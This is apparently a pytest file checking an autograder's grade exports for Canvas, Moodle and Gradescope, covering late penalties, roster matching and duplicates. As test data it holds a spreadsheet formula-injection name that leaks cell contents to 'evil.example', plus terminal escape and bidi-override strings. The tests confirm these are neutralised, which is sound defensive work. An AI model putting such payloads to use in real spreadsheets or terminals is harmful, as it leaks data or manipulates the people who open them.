"""The LMS exports (autograder.export), read back with the csv module and checked against each importer's rules.

Results are built in code (no grading). The lab is the real cnn_mnist (100 points) with a per-hour late policy:
2.5 points off per started hour past the due date, at most 10.
"""

from __future__ import annotations

import csv
import re
from dataclasses import replace
from datetime import datetime, timezone

import pytest

from autograder import export
from autograder.config import Late
from autograder.results import GRADED, INVALID, SubmissionResult
from autograder.roster import Student

from repo import COURSE

DUE = "2026-12-07T23:59:00+09:00"
NOW = datetime(2026, 12, 9, 10, 0, tzinfo=timezone.utc)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NUMBER = re.compile(r"[0-9]+(\.[0-9]{1,2})?")  # plain: no sign, no exponent, no grouping, two decimals at most


@pytest.fixture(scope="module")
def lab():
    return replace(COURSE.lab("cnn_mnist"), late=Late(due=DUE, penalty="per_hour", points=2.5, cap=10.0))


def result(lab, student_id, total, *, student=None, submitted_at="", late_mark=False, status=GRADED):
    """A result whose parts add up to `total` (the rest of the lab's points lost in its last part)."""
    maxima = dict(lab.points)
    parts = dict(maxima)
    last = list(parts)[-1]
    parts[last] -= sum(maxima.values()) - total
    return SubmissionResult(student_id=student_id, status=status, reason=None, parts=parts, max_parts=maxima,
                            student=dict(student or {}), submitted_at=submitted_at, late_mark=late_mark)


@pytest.fixture(scope="module")
def results(lab):
    return [
        # On time (and handed in before the due date): no penalty.
        result(lab, "s001", 87.5, submitted_at="2026-12-07T20:00:00+09:00",
               student={"name": "Smith, Alice", "email": "alice@uni.example.jp", "sis_id": "S001", "login": "alice",
                        "section": "A", "canvas_id": "101", "moodle_id": "5001"}),
        # 2 h 10 min late: 3 started hours, 7.5 points off. Only the name on the result: the roster adds the ids.
        result(lab, "s002", 91.25, submitted_at="2026-12-08T02:09:00+09:00", student={"name": "山田 太郎"}),
        # Late by the LMS's mark only: the first hour, 2.5 off. A name a spreadsheet would run, with a backslash
        # and terminal codes in it.
        result(lab, "s003", 50, late_mark=True,
               student={"name": HOSTILE_NAME + "\x1b[31m\\\u202e", "email": "eve@uni.example.jp",
                        "canvas_id": "103", "moodle_id": "5003", "sis_id": "S003"}),
        # No ids at all, and not on the roster: no LMS can place it.
        result(lab, "s004", 60, submitted_at="2026-12-07T23:00:00+09:00"),
        # 30 hours late: capped at 10 points off; 95.333 - 10 = 85.33 (two decimals).
        result(lab, "s006", 95 + 1 / 3, submitted_at="2026-12-09T05:30:00+09:00",
               student={"name": "Brown, Bob", "email": "bob@uni.example.jp", "sis_id": "S006", "canvas_id": "106",
                        "moodle_id": "5006"}),
        # No usable notebook: a 0, which is a grade (not an empty cell).
        result(lab, "s007", 0, status=INVALID,
               student={"name": "Zero, Zed", "email": "zed@uni.example.jp", "sis_id": "S007", "canvas_id": "107",
                        "moodle_id": "5007"}),
    ]


@pytest.fixture(scope="module")
def roster():
    return [
        Student("s001", name="Smith, Alice", email="alice@uni.example.jp", sis_id="S001", login="alice",
                section="A", canvas_id="101", moodle_id="5001"),
        Student("s002", name="山田 太郎", email="taro@uni.example.jp", sis_id="S002", login="taro", section="B",
                canvas_id="102", moodle_id="5002"),
        # On the roster, no result: an ungraded row.
        Student("s005", name="佐藤 花子", email="hanako@uni.example.jp", sis_id="S005", login="hanako", section="B",
                canvas_id="105", moodle_id="5005"),
    ]


def read(path):
    """(raw bytes, rows) of an exported file, read as the csv module reads UTF-8 with a BOM."""
    raw = path.read_bytes()
    with path.open(encoding="utf-8-sig", newline="") as f:
        return raw, list(csv.reader(f))


def by(rows, column, header):
    i = header.index(column)
    return {row[i]: dict(zip(header, row)) for row in rows}


# --------------------------------------------------------------------------------------------------------------
# Canvas


def test_canvas_gradebook_csv(tmp_path, lab, results, roster):
    """Canvas "Import grades into the Gradebook": header Student, ID, SIS User ID, SIS Login ID, Section, then the
    assignment column; a Points Possible row; rows matched by ID; a blank grade for a student without a result
    (Canvas reads blank as "no change", 0 would be a grade); UTF-8 with a BOM (Canvas's own export writes one);
    plain numbers with a decimal point."""
    path = tmp_path / "canvas.csv"
    rep = export.export("canvas", results, lab, path, roster=roster)
    raw, rows = read(path)
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    header, points, *body = rows
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "cnn_mnist"]
    assert points[0].strip() == "Points Possible" and points[5] == "100" and points[1:5] == ["", "", "", ""]
    rows_by_id = by(body, "ID", header)
    assert set(rows_by_id) == {"101", "102", "103", "105", "106", "107"}
    assert rows_by_id["101"] == {"Student": "Smith, Alice", "ID": "101", "SIS User ID": "S001",
                                 "SIS Login ID": "alice", "Section": "A", "cnn_mnist": "87.5"}
    # The roster filled the ids s002's result lacked; 3 started hours late: 91.25 - 7.5.
    assert rows_by_id["102"]["Student"] == "山田 太郎" and rows_by_id["102"]["SIS User ID"] == "S002"
    assert rows_by_id["102"]["cnn_mnist"] == "83.75"
    assert rows_by_id["103"]["cnn_mnist"] == "47.5"  # the LMS's late mark: the first hour
    assert rows_by_id["106"]["cnn_mnist"] == "85.33"  # capped at 10, two decimals
    assert rows_by_id["107"]["cnn_mnist"] == "0"
    assert rows_by_id["105"]["cnn_mnist"] == "" and rows_by_id["105"]["Student"] == "佐藤 花子"
    assert all(NUMBER.fullmatch(r["cnn_mnist"]) for i, r in rows_by_id.items() if i != "105")
    assert rep.column == "cnn_mnist" and rep.graded == 5 and rep.ungraded == ("s005",)
    assert [u.student_id for u in rep.unplaced] == ["s004"]
    assert rep.unplaced[0].grade == "60" and "canvas_id, sis_id or login" in rep.unplaced[0].why


def test_canvas_guards_the_hostile_name_and_keeps_the_ids(tmp_path, lab, results):
    """A name starting with '=' gets report.py's quote (the Student column is only shown: Canvas matches by ID);
    control and bidi characters are removed; the id columns, which Canvas matches by, are written as they are."""
    path = tmp_path / "canvas.csv"
    export.export("canvas", results, lab, path)
    _, (header, _, *body) = read(path)
    row = by(body, "ID", header)["103"]
    assert row["Student"].startswith("'=HYPERLINK(")
    assert "\x1b" not in row["Student"] and "\u202e" not in row["Student"]
    assert row["ID"] == "103" and row["SIS User ID"] == "S003"


def test_canvas_column_is_named_after_the_assignment(tmp_path, lab, results):
    """Canvas matches the column "Name (id)" to assignment id, else by title; a header it reads as something else
    (its student columns, its total columns such as "Final Score") is refused with what to do."""
    path = tmp_path / "canvas.csv"
    rep = export.export("canvas", results, lab, path, column="CNN on MNIST (4242)")
    assert read(path)[1][0][-1] == "CNN on MNIST (4242)" and rep.column == "CNN on MNIST (4242)"
    for bad in ("Final Score", "SIS User ID", "=cmd", "", "Lab 1 Current Score"):
        with pytest.raises(ValueError, match="--column"):
            export.export("canvas", results, lab, tmp_path / "bad.csv", column=bad)


def test_canvas_refuses_ids_it_could_not_match(tmp_path, lab):
    """Canvas IDs are numbers; an id with a formula start or control codes would be stored with report.py's quote
    (or changed) and match nobody; Canvas's decimal-comma converter would turn the SIS id "12,345" into 12.345. Such
    ids are not written; a row left with none is reported, with the reason, not written wrong."""
    rows = [result(lab, "x1", 80, student={"canvas_id": "=1+1", "sis_id": "12,345", "login": "\x1b]0;pwn\x07"}),
            result(lab, "x2", 70, student={"canvas_id": "abc", "sis_id": "S-2"})]
    path = tmp_path / "canvas.csv"
    rep = export.export("canvas", rows, lab, path)
    _, (header, _, *body) = read(path)
    assert body == [["", "", "S-2", "", "", "70"]]  # placed by its SIS User ID, the bad ID left out
    (u,) = rep.unplaced
    assert u.student_id == "x1" and u.grade == "80"
    assert "formula" in u.why and "as a number" in u.why and "control" in u.why
    assert "\x1b" not in u.why and "\x07" not in u.why  # the TA's terminal is not driven by a hostile id


def test_two_rows_for_one_lms_user_are_both_reported(tmp_path, lab):
    """Canvas keeps the last of two rows for one user (even a blank one, which would undo the grade): neither row
    is written, and both are reported with the id they share."""
    rows = [result(lab, "a", 90, student={"canvas_id": "200"}), result(lab, "b", 40, student={"canvas_id": "200"}),
            result(lab, "c", 75, student={"canvas_id": "201"})]
    path = tmp_path / "canvas.csv"
    rep = export.export("canvas", rows, lab, path)
    _, (header, _, *body) = read(path)
    assert [r[1] for r in body] == ["201"]
    assert [u.student_id for u in rep.unplaced] == ["a", "b"]
    assert all("Canvas ID '200'" in u.why for u in rep.unplaced)
    assert rep.graded == 1


# --------------------------------------------------------------------------------------------------------------
# Moodle


def test_moodle_grading_worksheet(tmp_path, lab, results, roster):
    """Moodle "Upload grading worksheet": its headers exactly (the importer finds Identifier, Grade and "Last
    modified (grade)" by name), Identifier "Participant <id>", the grade with a decimal point, Maximum Grade the
    lab's total, "Last modified (grade)" the export time (Moodle keeps grades changed after it); the BOM is
    removed by Moodle's csv reader."""
    path = tmp_path / "moodle.csv"
    rep = export.export("moodle", results, lab, path, roster=roster, now=NOW)
    raw, (header, *body) = read(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert header == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                      "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                      "Feedback comments"]
    assert all(len(row) == len(header) for row in body)  # Moodle refuses a file whose rows differ in length
    rows = by(body, "Identifier", header)
    assert set(rows) == {"Participant 5001", "Participant 5002", "Participant 5003", "Participant 5006",
                         "Participant 5007"}
    assert all(re.fullmatch(r"Participant [0-9]+", i) for i in rows)
    alice = rows["Participant 5001"]
    assert alice["Grade"] == "87.5" and alice["Maximum Grade"] == "100" and alice["Grade can be changed"] == "Yes"
    assert alice["Email address"] == "alice@uni.example.jp" and alice["Full name"] == "Smith, Alice"
    assert alice["Last modified (grade)"] == "2026-12-09T10:00:00+00:00"
    assert datetime.fromisoformat(alice["Last modified (submission)"]) == datetime.fromisoformat(
        "2026-12-07T20:00:00+09:00")
    taro = rows["Participant 5002"]
    assert taro["Grade"] == "83.75" and taro["Full name"] == "山田 太郎"
    assert "-7.5" in taro["Feedback comments"] and "83.75 / 100" in taro["Feedback comments"]
    assert rows["Participant 5006"]["Grade"] == "85.33" and rows["Participant 5007"]["Grade"] == "0"
    assert all(NUMBER.fullmatch(r["Grade"]) for r in rows.values())
    # A student without a result is left out (a blank grade is skipped by Moodle, a blank comment would erase
    # the TA's), and listed; the row without a Moodle participant id is reported.
    assert rep.ungraded == ("s005",) and rep.graded == 5
    assert [u.student_id for u in rep.unplaced] == ["s004"] and "moodle_id" in rep.unplaced[0].why


def test_moodle_shown_cells_are_guarded(tmp_path, lab, results):
    """Full name is only shown: formula-guarded, control characters removed, and a backslash replaced (Moodle
    parses with PHP's fgetcsv, whose backslash escape can split a field)."""
    path = tmp_path / "moodle.csv"
    export.export("moodle", results, lab, path, now=NOW)
    _, (header, *body) = read(path)
    name = by(body, "Identifier", header)["Participant 5003"]["Full name"]
    assert name.startswith("'=HYPERLINK(") and "\\" not in name and "\x1b" not in name and "\u202e" not in name


# --------------------------------------------------------------------------------------------------------------
# Gradescope


def test_gradescope_scores_csv(tmp_path, lab, results, roster):
    """Gradescope's scores CSV: Name, SID, Email, Total Score; students matched by Email or SID; a student without
    a result has a blank Total Score (as Gradescope's own export shows a missing submission), not 0; a row with
    neither Email nor SID is reported."""
    path = tmp_path / "gradescope.csv"
    rep = export.export("gradescope", results, lab, path, roster=roster)
    raw, (header, *body) = read(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert header == ["Name", "SID", "Email", "Total Score"]
    rows = by(body, "Email", header)
    assert rows["alice@uni.example.jp"] == {"Name": "Smith, Alice", "SID": "S001", "Email": "alice@uni.example.jp",
                                            "Total Score": "87.5"}
    assert rows["taro@uni.example.jp"]["Total Score"] == "83.75" and rows["taro@uni.example.jp"]["SID"] == "S002"
    eve = rows["eve@uni.example.jp"]
    assert eve["Name"].startswith("'=") and eve["Total Score"] == "47.5"
    assert rows["bob@uni.example.jp"]["Total Score"] == "85.33"
    hanako = rows["hanako@uni.example.jp"]
    assert hanako["Total Score"] == "" and hanako["Name"] == "佐藤 花子"
    assert all(NUMBER.fullmatch(r["Total Score"]) for e, r in rows.items() if e != "hanako@uni.example.jp")
    assert rep.ungraded == ("s005",) and rep.graded == 5
    assert [u.student_id for u in rep.unplaced] == ["s004"] and "email or sis_id" in rep.unplaced[0].why


def test_gradescope_same_email_in_another_case_is_one_student(tmp_path, lab):
    """Gradescope's roster keys students by e-mail address, which is not case-sensitive: two rows whose addresses
    differ only in case are one student, so both are reported."""
    rows = [result(lab, "a", 90, student={"email": "Kim@uni.example.jp"}),
            result(lab, "b", 40, student={"email": "kim@UNI.example.jp"})]
    rep = export.export("gradescope", rows, lab, tmp_path / "gs.csv")
    assert [u.student_id for u in rep.unplaced] == ["a", "b"] and rep.graded == 0
    assert read(tmp_path / "gs.csv")[1] == [["Name", "SID", "Email", "Total Score"]]


# --------------------------------------------------------------------------------------------------------------
# What the CLI prints


def test_report_lines_name_what_was_left_out(tmp_path, lab, results, roster):
    """The TA is told each row that could not be placed, with its grade, and the rostered students without a
    result; ids are printed with control characters escaped."""
    rows = [*results, result(lab, "evil\x1b[2J", 10)]
    rep = export.export("canvas", rows, lab, tmp_path / "c.csv", roster=roster)
    text = rep.summary()
    assert "6 grades written" not in text and "5 grades written to" in text
    assert "NOT PLACED: s004 (grade 60)" in text and "s005" in text
    assert "\x1b" not in text and "evil\\x1b[2J" in text


def test_unknown_format(tmp_path, lab, results):
    """Only the three formats exist; anything else is refused before a file is written."""
    with pytest.raises(ValueError, match="canvas, moodle, gradescope"):
        export.export("blackboard", results, lab, tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()
